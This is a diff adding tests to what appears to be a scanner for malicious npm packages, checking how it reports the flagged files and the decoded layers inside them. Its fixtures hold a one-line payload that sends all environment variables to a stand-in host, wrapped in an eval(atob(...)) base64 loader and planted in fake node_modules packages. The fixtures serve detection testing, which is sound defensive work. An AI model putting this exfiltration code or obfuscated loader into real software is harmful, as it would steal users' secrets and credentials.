@@ -3,6 +3,7 @@ import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { afterAll, describe, expect, test } from 'vitest';
 import { defineRule, rules, scanDirectory, scanNodeModules, scanPackage, scanSource } from '../src/index.js';
+import { inspectTarget } from '../src/scan.js';
 
 const THIEF = `require('https').request('https://collect.invalid').end(JSON.stringify(process.env));`;
 const root = mkdtempSync(join(tmpdir(), 'stowaway-scan-'));
@@ -259,5 +260,42 @@ describe('a tree', () => {
     const [inTree] = (await scanNodeModules(dir)).packages;
     expect(inTree?.findings).toEqual(alone.findings);
     expect(inTree?.score).toBe(alone.score);
+  });
+});
+
+describe('the texts that reports speak of', () => {
+  const hidden = `${THIEF} // inside`;
+  const loader = `eval(atob('${Buffer.from(hidden).toString('base64')}'));`;
+  const files = { 'package.json': '{"name":"a","version":"1.0.0"}', 'index.js': loader, 'other.js': 'exports.a = 1;' };
+  const inModules = (name: string) =>
+    Object.fromEntries(Object.entries(files).map(([path, text]) => [`node_modules/${name}/${path}`, text]));
+
+  test('are the files with findings and the layers in them, each with its host and the places of steps', async () => {
+    const dir = plant(files);
+    const report = await scanDirectory(dir);
+    const texts = (await inspectTarget(dir, [report])).get(dir) ?? [];
+    expect(texts.map(({ file }) => [file.path, file.text])).toEqual([
+      ['index.js', loader],
+      ['index.js', hidden],
+    ]);
+    expect(texts[1]?.host).toBe(texts[0]?.file);
+    const [sink] = texts[1]?.marks.filter(({ finding, step }) => finding.chain[step]?.role === 'sink') ?? [];
+    expect(hidden.slice(sink?.start, sink?.end)).toContain("require('https').request");
+    expect(report.findings).toContainEqual(sink?.finding);
+  });
+
+  test('are those of the packages asked for', async () => {
+    const dir = plant({ 'package.json': '{}', ...inModules('a'), ...inModules('b') });
+    const { packages } = await scanNodeModules(dir);
+    const asked = packages.filter(({ package: { path } }) => path === 'node_modules/b');
+    expect([...(await inspectTarget(dir, asked)).keys()]).toEqual(['node_modules/b']);
+    expect(await inspectTarget(dir, [])).toEqual(new Map());
+  });
+
+  test('are left out for a package that is gone', async () => {
+    const dir = plant({ 'package.json': '{}', ...inModules('a'), ...inModules('b') });
+    const { packages } = await scanNodeModules(dir);
+    rmSync(join(dir, 'node_modules/a'), { recursive: true });
+    expect([...(await inspectTarget(dir, packages)).keys()]).toEqual(['node_modules/b']);
   });
 });
